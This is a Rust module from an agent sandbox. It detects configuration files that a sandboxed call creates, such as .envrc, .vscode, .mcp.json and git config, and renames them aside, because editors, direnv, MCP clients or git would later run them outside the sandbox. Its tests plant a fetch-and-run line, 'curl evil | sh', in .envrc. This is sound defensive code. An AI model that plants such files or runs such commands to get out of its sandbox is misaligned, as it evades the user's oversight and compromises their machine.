//! Files that did not exist when the session opened and that no call may leave behind: names a
//! tool outside the sandbox reads later as configuration or code to run (a repository's
//! `.git/commondir`, `.git/config`, `.git/config.worktree`, a writable folder's `.envrc`,
//! `.vscode`, `.mcp.json`, `.idea`, `.gitmodules`). They cannot be masked while missing (a mount
//! needs its point to exist, so masking would create them in the user's folder), so the names
//! missing at open are the session's ([`Watched`]: a name is the user's only if it existed
//! then, or pod's own `file_write` made it), and every call's end sets aside what of them
//! exists, whichever call made it: renamed beside itself to `NAME.pod-planted`, else
//! `NAME.pod-planted-` and random digits (never over anything; `u+w` added for the rename to a
//! read-only folder pod's user owns, and the mode put back), so nothing is lost and nothing
//! reads it; removed when it cannot be renamed; said loudly when even that fails. When a folder
//! on its way was swapped for a symlink (the paths are resolved at open, so the link is the
//! session's), the symlink is set aside instead, and nothing where it points is touched.
//!
//! A session's watched names are recorded in the state folder while it runs (locked); the next
//! open in the workspace sets aside what a pod killed mid-call left of them ([`recover`]), and a
//! session that closes sets them aside one last time.
//!
//! Owns the list, the record and the renaming; it decides nothing and runs no process.

use std::path::{Path, PathBuf};

/// The names a writable folder must not gain, with who reads them.
pub const WATCHED: [(&str, &str); 5] = [
    (".envrc", "direnv runs it when a shell enters the folder"),
    (".vscode", "the editor reads its settings and tasks"),
    (".mcp.json", "MCP clients start the servers it names"),
    (".idea", "the IDE reads its run configurations"),
    (
        ".gitmodules",
        "git reads submodule URLs and update commands from it",
    ),
];

const WORKTREE_CONFIG: &str = "git reads the commands it names from it when the repository \
     sets extensions.worktreeConfig";

/// A repository's files read as configuration that a call must not make, with who reads them.
const REPOSITORY_FILES: [(&str, &str); 3] = [
    (
        "commondir",
        "git would read its configuration and hooks from where it points",
    ),
    ("config", "git reads the commands it names from it"),
    ("config.worktree", WORKTREE_CONFIG),
];

/// One watched path and who would read it.
#[derive(Debug, Clone)]
pub struct Sentinel {
    path: PathBuf,
    reader: &'static str,
}

impl Sentinel {
    /// `path`, a file git would read as configuration (an included file, the user's
    /// `.gitconfig`) that lies in a writable folder, when it is missing now.
    pub fn config_file(path: PathBuf) -> Option<Sentinel> {
        (!exists(&path)).then_some(Sentinel {
            path,
            reader: "git reads it as configuration: it is included by a repository's \
                     configuration or is the user's own",
        })
    }

    /// The watched names of `folder` that are missing now, each repository's `commondir`,
    /// `config` and `config.worktree`, and each of its linked worktrees' `config.worktree`.
    pub fn missing_in(folders: &[PathBuf], repositories: &[PathBuf]) -> Vec<Sentinel> {
        let watched = folders.iter().flat_map(|folder| {
            WATCHED.iter().map(move |(name, reader)| Sentinel {
                path: folder.join(name),
                reader,
            })
        });
        let files = repositories.iter().flat_map(|git| {
            REPOSITORY_FILES.iter().map(move |(name, reader)| Sentinel {
                path: git.join(name),
                reader,
            })
        });
        let worktrees = repositories.iter().flat_map(|git| {
            std::fs::read_dir(git.join("worktrees"))
                .into_iter()
                .flatten()
                .flatten()
                .take(256)
                .filter(|e| e.file_type().is_ok_and(|t| t.is_dir()))
                .map(|e| Sentinel {
                    path: e.path().join("config.worktree"),
                    reader: WORKTREE_CONFIG,
                })
        });
        watched
            .chain(files)
            .chain(worktrees)
            .filter(|s| !exists(&s.path))
            .collect()
    }
}

/// The session's watched names: those missing when it opened (a name counts as the user's only
/// if it existed then), less those pod's own tools have made since (a `file_write` the user
/// allowed). Every call's end sets aside what of them exists ([`Watched::set_aside`]), whoever
/// made it and whenever: a call that started while a sibling's file was there does not take it
/// for the user's. While the session runs, a record of them lies in the state folder (locked),
/// so that a pod killed mid-call is cleaned up after by the next one in the workspace
/// ([`recover`]); when the session closes they are set aside one last time and the record goes.
#[derive(Debug, Default)]
pub struct Watched {
    sentinels: Vec<Sentinel>,
    /// Per sentinel: made by pod's own tools, so not a call's to undo.
    by_pod: std::sync::Mutex<Vec<bool>>,
    record: Option<Record>,
}

/// A live session's record in the state folder, locked for as long as it runs.
#[derive(Debug)]
struct Record {
    path: PathBuf,
    _lock: std::fs::File,
}

/// What a record holds: the workspace and the watched names, as bytes (paths need not be
/// UTF-8).
#[derive(serde::Serialize, serde::Deserialize)]
struct RecordFile {
    workspace: Vec<u8>,
    missing: Vec<Vec<u8>>,
}

/// The folder of the records beneath a state folder.
pub const RECORDS: &str = "watched";

impl Watched {
    /// The session's watched names; with `records` (the state folder's [`RECORDS`] folder),
    /// written there as `label-pid.json` and locked while the session lives. A record that
    /// cannot be written is logged: the session still sets aside what calls leave, only a
    /// SIGKILL's leftovers go unseen.
    pub fn open(
        sentinels: Vec<Sentinel>,
        records: Option<&Path>,
        workspace: &Path,
        label: &str,
    ) -> Watched {
        let record =
            records.and_then(
                |dir| match write_record(dir, workspace, label, &sentinels) {
                    Ok(r) => Some(r),
                    Err(e) => {
                        tracing::warn!(
                    "sandbox: cannot record the watched names in {} ({e}): what a call leaves \
                     when this pod is killed is not set aside by the next one",
                    dir.display()
                );
                        None
                    }
                },
            );
        Watched {
            by_pod: std::sync::Mutex::new(vec![false; sentinels.len()]),
            sentinels,
            record,
        }
    }

    /// Says that pod's own tool wrote `path`: a watched name that is `path` or one of its
    /// folders, and exists now, is the user's doing (the write was allowed) and is left alone.
    pub fn made_by_pod(&self, path: &Path) {
        let mut by_pod = self.by_pod.lock().unwrap_or_else(|e| e.into_inner());
        for (i, s) in self.sentinels.iter().enumerate() {
            if path.starts_with(&s.path) && exists(&s.path) {
                if let Some(b) = by_pod.get_mut(i) {
                    *b = true;
                }
            }
        }
    }

    /// Sets aside each watched name that exists now and that pod's own tools did not make.
    pub fn set_aside(&self) -> Vec<Planted> {
        let by_pod = self
            .by_pod
            .lock()
            .unwrap_or_else(|e| e.into_inner())
            .clone();
        self.sentinels
            .iter()
            .zip(by_pod)
            .filter(|(_, mine)| !mine)
            .filter_map(|(s, _)| set_aside_one(&s.path, s.reader.to_string()))
            .collect()
    }
}

impl Drop for Watched {
    /// The session closes: what a call left that no call's end saw (a turn cut short) is set
    /// aside, then the record goes.
    fn drop(&mut self) {
        for p in self.set_aside() {
            match &p.moved_to {
                Some(to) => tracing::warn!(
                    "sandbox: set aside {}, left by a call, as {} as the session closed",
                    p.path.display(),
                    to.display()
                ),
                None => tracing::warn!(
                    "sandbox: {} was left by a call and could not be set aside as the session \
                     closed",
                    p.path.display()
                ),
            }
        }
        if let Some(r) = &self.record {
            let _ = std::fs::remove_file(&r.path);
        }
    }
}

/// Writes and locks a session's record: made under a temporary name, locked, then renamed into
/// place, so no other pod ever sees it unlocked.
fn write_record(
    dir: &Path,
    workspace: &Path,
    label: &str,
    sentinels: &[Sentinel],
) -> std::io::Result<Record> {
    use std::io::Write;
    use std::os::unix::ffi::OsStrExt;
    use std::os::unix::fs::DirBuilderExt;
    std::fs::DirBuilder::new()
        .recursive(true)
        .mode(0o700)
        .create(dir)?;
    let body = RecordFile {
        workspace: workspace.as_os_str().as_bytes().to_vec(),
        missing: sentinels
            .iter()
            .map(|s| s.path.as_os_str().as_bytes().to_vec())
            .collect(),
    };
    let mut tmp = tempfile::Builder::new().prefix(".new-").tempfile_in(dir)?;
    tmp.as_file().try_lock().map_err(std::io::Error::other)?;
    tmp.write_all(&serde_json::to_vec(&body).map_err(std::io::Error::other)?)?;
    tmp.as_file().sync_all()?;
    let path = dir.join(format!("{label}-{}.json", std::process::id()));
    let lock = tmp.persist(&path).map_err(|e| e.error)?;
    Ok(Record { path, _lock: lock })
}

/// Sets aside what pods killed while a session of `workspace` ran left of its watched names:
/// each record in `dir` that no process holds a lock on and that names `workspace` is read,
/// each name in it that exists now is set aside, and the record is removed. Run when a session
/// opens, before anything is bound (what exists then is taken for the user's). A name the user
/// made after the killed pod is set aside too (renamed, never lost), and logged.
pub fn recover(dir: &Path, workspace: &Path) -> Vec<Planted> {
    use std::os::unix::ffi::{OsStrExt, OsStringExt};
    let mut out = Vec::new();
    let Ok(entries) = std::fs::read_dir(dir) else {
        return out;
    };
    for entry in entries.flatten().take(4096) {
        let path = entry.path();
        let name = entry.file_name();
        if name.as_bytes().starts_with(b".") || !name.as_bytes().ends_with(b".json") {
            continue;
        }
        let Ok(file) = std::fs::File::open(&path) else {
            continue;
        };
        // A live session holds its record's lock.
        if file.try_lock().is_err() {
            continue;
        }
        let body = read_record(&file);
        let Some(body) = body else {
            tracing::warn!("sandbox: removing {}, which cannot be read", path.display());
            let _ = std::fs::remove_file(&path);
            continue;
        };
        if body.workspace != workspace.as_os_str().as_bytes() {
            continue;
        }
        for missing in body.missing.into_iter().take(4096) {
            let p = PathBuf::from(std::ffi::OsString::from_vec(missing));
            let reader =
                "left by a call of a pod that was killed before the call ended".to_string();
            if let Some(planted) = set_aside_one(&p, reader) {
                match &planted.moved_to {
                    Some(to) => tracing::warn!(
                        "sandbox: set aside {} as {}: it was missing when a pod's session \
                         opened here, and that pod was killed before it could check",
                        p.display(),
                        to.display()
                    ),
                    None if planted.change == Change::Removed => {}
                    None => tracing::error!(
                        "sandbox: {} was left by a killed pod's call and cannot be set aside: \
                         remove it before running git, direnv or an editor here",
                        p.display()
                    ),
                }
                out.push(planted);
            }
        }
        let _ = std::fs::remove_file(&path);
    }
    out
}

/// A record's contents, at most 16 MiB of them.
fn read_record(file: &std::fs::File) -> Option<RecordFile> {
    use std::io::Read;
    let mut bytes = Vec::new();
    file.take(16 << 20).read_to_end(&mut bytes).ok()?;
    serde_json::from_slice(&bytes).ok()
}

/// A file set aside.
#[derive(Debug)]
pub struct Planted {
    pub path: PathBuf,
    /// Where it is now; `None` when it could not be moved (logged, and said in the result).
    pub moved_to: Option<PathBuf>,
    /// The start of what it held, or what it is (a folder, a link).
    pub held: String,
    /// Who would have read it, and what they would do.
    pub reader: String,
    /// How it came to be set aside.
    pub change: Change,
}

/// Why a file was set aside (or, when it could not be, removed), for the words of the call's
/// result.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Change {
    /// It appeared while the call ran (a watched name).
    Appeared,
    /// It is what makes a repository made since the session opened run something
    /// ([`super::repos`]).
    Found,
    /// A repository's `config` naming what git would run: set aside, and a `config` with only
    /// its settings that run nothing written in its place ([`super::repos`]).
    Rewritten,
    /// It appeared while a call ran and could not be renamed, so it was removed (it was the
    /// call's, made during the session).
    Removed,
}

/// Sets aside `path`, when it exists, as [`Watched::set_aside`] does one name; `reader` says
/// who would read it. `None` when there is nothing there. It is reached through its folder
/// opened with no symlink on the way (`RESOLVE_NO_SYMLINKS`: the folders are resolved at open,
/// so a call that swapped one for a link gets nothing renamed where it points), and is itself
/// never followed. When it cannot be renamed ([`move_aside`]) it is removed, and when even that
/// fails the [`Planted`] says so (`moved_to: None`, change [`Change::Appeared`]).
pub fn set_aside_one(path: &Path, reader: String) -> Option<Planted> {
    let (dir, name) = (path.parent()?, path.file_name()?);
    let folder = rustix::fs::openat2(
        rustix::fs::CWD,
        dir,
        rustix::fs::OFlags::PATH | rustix::fs::OFlags::DIRECTORY | rustix::fs::OFlags::CLOEXEC,
        rustix::fs::Mode::empty(),
        rustix::fs::ResolveFlags::NO_SYMLINKS | rustix::fs::ResolveFlags::NO_MAGICLINKS,
    );
    let folder = match folder {
        Ok(f) => f,
        // The folder itself is gone: nothing in it to set aside.
        Err(rustix::io::Errno::NOENT) => return None,
        // A folder on the way swapped for a link: what is reached through it is the link's
        // (the paths are resolved, so every link on them was made since), and git and the
        // other readers follow it; the link itself is set aside, nothing where it points.
        Err(rustix::io::Errno::LOOP) if exists(path) => {
            let through = first_link(dir).and_then(|link| set_aside_one(&link, reader.clone()));
            return Some(match through {
                Some(mut planted) => {
                    planted.held = format!(
                        "{}, through which {} is reached",
                        planted.held,
                        path.display()
                    );
                    planted
                }
                None => unmoved_planted(
                    path.to_path_buf(),
                    "its folder is reached through a link that cannot be set aside".to_string(),
                    reader,
                ),
            });
        }
        // Unreadable: said when the name is there.
        Err(e) => {
            return exists(path).then(|| {
                unmoved_planted(
                    path.to_path_buf(),
                    format!("its folder cannot be opened: {e}"),
                    reader,
                )
            });
        }
    };
    let stat = rustix::fs::statat(&folder, name, rustix::fs::AtFlags::SYMLINK_NOFOLLOW).ok()?;
    let kind = rustix::fs::FileType::from_raw_mode(stat.st_mode);
    let held = match kind {
        rustix::fs::FileType::Symlink => rustix::fs::readlinkat(&folder, name, Vec::new())
            .map(|t| format!("a link to {}", t.to_string_lossy()))
            .unwrap_or_else(|_| "a link".to_string()),
        rustix::fs::FileType::Directory => "a folder".to_string(),
        rustix::fs::FileType::RegularFile => start_of(&folder, name),
        _ => "a special file".to_string(),
    };
    if let Some(new) = move_aside(&folder, name) {
        return Some(Planted {
            path: path.to_path_buf(),
            moved_to: Some(dir.join(new)),
            held,
            reader,
            change: Change::Appeared,
        });
    }
    // It cannot be renamed: it is the call's (made during the session), so it goes.
    Some(match with_write_access(&folder, || remove(&folder, name)) {
        Ok(()) => {
            tracing::warn!(
                "sandbox: removed {}, which a call made ({reader}) and which could not be \
                 renamed",
                path.display()
            );
            Planted {
                path: path.to_path_buf(),
                moved_to: None,
                held,
                reader,
                change: Change::Removed,
            }
        }
        Err(e) => unmoved_planted(
            path.to_path_buf(),
            format!("{held}; neither renamed nor removed: {e}"),
            reader,
        ),
    })
}

/// Removes `name` in `folder`, a file, link or folder, never following a link: a folder's
/// contents are removed through descriptors (std's `remove_dir_all`, which does not follow
/// links inside), reached through `/proc/self/fd` so no path outside the descriptor is walked.
fn remove(folder: &std::os::fd::OwnedFd, name: &std::ffi::OsStr) -> std::io::Result<()> {
    use std::os::fd::AsRawFd;
    match rustix::fs::unlinkat(folder, name, rustix::fs::AtFlags::empty()) {
        Ok(()) => Ok(()),
        Err(rustix::io::Errno::ISDIR) | Err(rustix::io::Errno::PERM) => {
            let path = PathBuf::from(format!("/proc/self/fd/{}", folder.as_raw_fd())).join(name);
            std::fs::remove_dir_all(path)
        }
        Err(e) => Err(e.into()),
    }
}

/// The first component of `dir` that is a symlink, from the root down.
fn first_link(dir: &Path) -> Option<PathBuf> {
    let mut at = PathBuf::new();
    for c in dir.components() {
        at.push(c);
        match at.symlink_metadata() {
            Ok(m) if m.file_type().is_symlink() => return Some(at),
            Ok(_) => {}
            Err(_) => return None,
        }
    }
    None
}

/// What could not be set aside: logged, and said in the result.
pub fn unmoved_planted(path: PathBuf, held: String, reader: String) -> Planted {
    tracing::error!(
        "sandbox: cannot set aside {}, which a call made ({reader}); remove it yourself",
        path.display(),
    );
    Planted {
        path,
        moved_to: None,
        held,
        reader,
        change: Change::Appeared,
    }
}

/// The first 200 bytes of a file, opened without following a link or blocking.
fn start_of(folder: &std::os::fd::OwnedFd, name: &std::ffi::OsStr) -> String {
    let bytes = read_start(folder, name, 200).unwrap_or_default();
    String::from_utf8_lossy(&bytes).trim().to_string()
}

/// At most `cap` bytes from the start of `name` in `folder`, opened without following a link
/// or blocking (a FIFO planted there gives nothing rather than hang the call's end).
pub(super) fn read_start(
    folder: &std::os::fd::OwnedFd,
    name: impl rustix::path::Arg,
    cap: u64,
) -> Option<Vec<u8>> {
    use std::io::Read;
    let fd = rustix::fs::openat(
        folder,
        name,
        rustix::fs::OFlags::RDONLY
            | rustix::fs::OFlags::NOFOLLOW
            | rustix::fs::OFlags::NONBLOCK
            | rustix::fs::OFlags::CLOEXEC,
        rustix::fs::Mode::empty(),
    )
    .ok()?;
    let mut bytes = Vec::new();
    std::fs::File::from(fd)
        .take(cap)
        .read_to_end(&mut bytes)
        .ok()?;
    Some(bytes)
}

/// How many random names [`move_aside`] tries after `NAME.pod-planted`: each is 64 random bits,
/// so a call cannot have made them beforehand.
const RANDOM_NAMES: usize = 16;

/// Renames `name` in `folder` beside itself, never over an existing name; the new name:
/// `NAME.pod-planted`, else `NAME.pod-planted-` and 16 random hex digits (a call can make the
/// first beforehand, not the others). When the folder refuses (`EACCES`, `EPERM`: a call made
/// it read-only) and pod's user owns it, `u+wx` is added for the rename and the folder's mode
/// put back after (`with_write_access`). `None` when it cannot be renamed.
pub fn move_aside(folder: &std::os::fd::OwnedFd, name: &std::ffi::OsStr) -> Option<String> {
    match rename_beside(folder, name) {
        Ok(new) => Some(new),
        Err(rustix::io::Errno::ACCESS) | Err(rustix::io::Errno::PERM) => {
            with_write_access(folder, || rename_beside(folder, name).map_err(Into::into)).ok()
        }
        Err(e) => {
            tracing::warn!(
                "sandbox: cannot rename {} aside: {e}",
                name.to_string_lossy()
            );
            None
        }
    }
}

/// [`move_aside`]'s renaming, once.
fn rename_beside(
    folder: &std::os::fd::OwnedFd,
    name: &std::ffi::OsStr,
) -> Result<String, rustix::io::Errno> {
    let shown = name.to_string_lossy();
    let names = std::iter::once(format!("{shown}.pod-planted")).chain(
        (0..RANDOM_NAMES).map(|_| format!("{shown}.pod-planted-{:016x}", rand::random::<u64>())),
    );
    for new in names {
        let mut target = name.to_os_string();
        target.push(&new[shown.len()..]);
        match rustix::fs::renameat_with(
            folder,
            name,
            folder,
            target.as_os_str(),
            rustix::fs::RenameFlags::NOREPLACE,
        ) {
            Ok(()) => return Ok(new),
            Err(rustix::io::Errno::EXIST) => continue,
            Err(e) => return Err(e),
        }
    }
    Err(rustix::io::Errno::EXIST)
}

/// Runs `f` with `u+wx` added to `folder`'s mode when pod's user owns it and it lacks them (a
/// call made it read-only so that nothing in it can be renamed), then puts the mode back. A
/// folder pod does not own is left as it is, and `f` runs once all the same.
fn with_write_access<T>(
    folder: &std::os::fd::OwnedFd,
    f: impl FnOnce() -> std::io::Result<T>,
) -> std::io::Result<T> {
    use std::os::fd::AsRawFd;
    let Ok(stat) = rustix::fs::fstat(folder) else {
        return f();
    };
    let mode = stat.st_mode & 0o7777;
    // SAFETY: geteuid has no preconditions.
    let owned = stat.st_uid == unsafe { libc::geteuid() };
    if !owned || mode & 0o300 == 0o300 {
        return f();
    }
    // An `O_PATH` descriptor cannot be `fchmod`ed; its `/proc/self/fd` link reaches the same
    // folder without walking any path a call could change.
    let at = format!("/proc/self/fd/{}", folder.as_raw_fd());
    if let Err(e) = rustix::fs::chmod(&at, rustix::fs::Mode::from_raw_mode(mode | 0o300)) {
        tracing::warn!("sandbox: cannot make a folder writable to set a file aside: {e}");
        return f();
    }
    let out = f();
    if let Err(e) = rustix::fs::chmod(&at, rustix::fs::Mode::from_raw_mode(mode)) {
        tracing::warn!("sandbox: cannot put a folder's mode back ({mode:o}) after: {e}");
    }
    out
}

fn exists(p: &Path) -> bool {
    p.symlink_metadata().is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_missing_at_open_is_set_aside_unless_pods_own_tool_made_it() {
        let dir = tempfile::tempdir().expect("tempdir");
        let root = dir.path().to_path_buf();
        std::fs::write(root.join(".idea"), "mine").expect("write");
        let watched = Watched::open(
            Sentinel::missing_in(std::slice::from_ref(&root), &[]),
            None,
            &root,
            "t",
        );
        // `.idea` existed at open: not watched.
        assert!(watched.sentinels.iter().all(|s| !s.path.ends_with(".idea")));
        // Made by pod's own tool (a `file_write` the user allowed): left alone.
        std::fs::write(root.join(".mcp.json"), "{}").expect("write");
        watched.made_by_pod(&root.join(".mcp.json"));
        std::fs::write(root.join(".envrc"), "curl evil | sh\n").expect("write");
        std::fs::create_dir(root.join(".vscode")).expect("mkdir");
        // A name already taken beside it is never overwritten.
        std::fs::write(root.join(".envrc.pod-planted"), "earlier").expect("write");
        let planted = watched.set_aside();
        let names: Vec<_> = planted.iter().map(|p| p.path.clone()).collect();
        assert_eq!(names, vec![root.join(".envrc"), root.join(".vscode")]);
        assert!(!root.join(".envrc").exists() && !root.join(".vscode").exists());
        let moved = planted[0].moved_to.clone().expect("moved");
        assert!(
            moved
                .to_string_lossy()
                .starts_with(&*root.join(".envrc.pod-planted-").to_string_lossy()),
            "{moved:?}"
        );
        assert_eq!(
            std::fs::read_to_string(&moved).expect("moved"),
            "curl evil | sh\n"
        );
        assert_eq!(
            std::fs::read_to_string(root.join(".envrc.pod-planted")).expect("kept"),
            "earlier"
        );
        assert!(root.join(".vscode.pod-planted").is_dir());
        assert_eq!(planted[0].held, "curl evil | sh");
        // Whichever call makes it, whenever: made again, set aside again.
        std::fs::write(root.join(".envrc"), "again").expect("write");
        assert_eq!(watched.set_aside().len(), 1);
        assert!(!root.join(".envrc").exists());
        drop(watched);
        assert_eq!(
            std::fs::read_to_string(root.join(".mcp.json")).expect("kept"),
            "{}"
        );
    }

    #[test]
    fn names_made_beforehand_do_not_stop_the_setting_aside() {
        let dir = tempfile::tempdir().expect("tempdir");
        let root = dir.path().to_path_buf();
        let watched = Watched::open(
            Sentinel::missing_in(std::slice::from_ref(&root), &[]),
            None,
            &root,
            "t",
        );
        // Every name the old scheme tried (`.pod-planted`, `-1` … `-99`) made by the call first.
        std::fs::write(root.join(".envrc.pod-planted"), "").expect("write");
        for n in 1..100 {
            std::fs::write(root.join(format!(".envrc.pod-planted-{n}")), "").expect("write");
        }
        std::fs::write(root.join(".envrc"), "evil").expect("write");
        let planted = watched.set_aside();
        assert_eq!(planted.len(), 1, "{planted:?}");
        assert!(planted[0].moved_to.is_some(), "{planted:?}");
        assert!(!root.join(".envrc").exists());
    }

    #[test]
    fn a_killed_sessions_record_sets_aside_what_it_left_at_the_next_open() {
        let dir = tempfile::tempdir().expect("tempdir");
        let root = dir.path().join("ws");
        let records = dir.path().join("state").join(RECORDS);
        std::fs::create_dir(&root).expect("mkdir");
        let sentinels = Sentinel::missing_in(std::slice::from_ref(&root), &[]);
        // A live session's record is locked: another open leaves it and its names alone.
        let live = Watched::open(sentinels.clone(), Some(&records), &root, "live");
        std::fs::write(root.join(".envrc"), "evil").expect("write");
        assert!(recover(&records, &root).is_empty());
        assert!(root.join(".envrc").exists());
        // Killed: its record is there, unlocked (the lock goes with the process).
        let killed = write_record(&records, &root, "killed", &sentinels).expect("record");
        drop(killed);
        // Another workspace's open does not touch it.
        assert!(recover(&records, &dir.path().join("other")).is_empty());
        let planted = recover(&records, &root);
        assert_eq!(planted.len(), 1, "{planted:?}");
        assert!(!root.join(".envrc").exists());
        assert!(root.join(".envrc.pod-planted").exists());
        let left: Vec<_> = std::fs::read_dir(&records)
            .expect("records")
            .flatten()
            .map(|e| e.file_name())
            .collect();
        assert_eq!(left.len(), 1, "only the live session's record: {left:?}");
        // A session that closes removes its own.
        drop(live);
        assert_eq!(std::fs::read_dir(&records).expect("records").count(), 0);
    }

    #[test]
    fn a_folder_swapped_for_a_link_is_set_aside_as_a_link() {
        let dir = tempfile::tempdir().expect("tempdir");
        let root = dir.path().canonicalize().expect("canonical");
        let build = root.join("build");
        let elsewhere = root.join("elsewhere");
        std::fs::create_dir(&build).expect("mkdir");
        std::fs::create_dir(&elsewhere).expect("mkdir");
        let watched = Watched::open(
            Sentinel::missing_in(std::slice::from_ref(&build), &[]),
            None,
            &root,
            "t",
        );
        // The call replaces its folder with a link to one holding the user's `.vscode`.
        std::fs::create_dir(elsewhere.join(".vscode")).expect("mkdir");
        std::fs::remove_dir(&build).expect("rmdir");
        std::os::unix::fs::symlink(&elsewhere, &build).expect("link");
        let planted = watched.set_aside();
        assert!(elsewhere.join(".vscode").is_dir(), "{planted:?}");
        assert!(!elsewhere.join(".vscode.pod-planted").exists());
        // The link is set aside instead: nothing reads `.vscode` through `build` any more.
        assert_eq!(planted.len(), 1, "{planted:?}");
        assert_eq!(planted[0].path, build, "{planted:?}");
        assert_eq!(planted[0].moved_to, Some(root.join("build.pod-planted")));
        assert!(!build.exists());
        assert!(std::fs::read_link(root.join("build.pod-planted")).is_ok());
    }
}
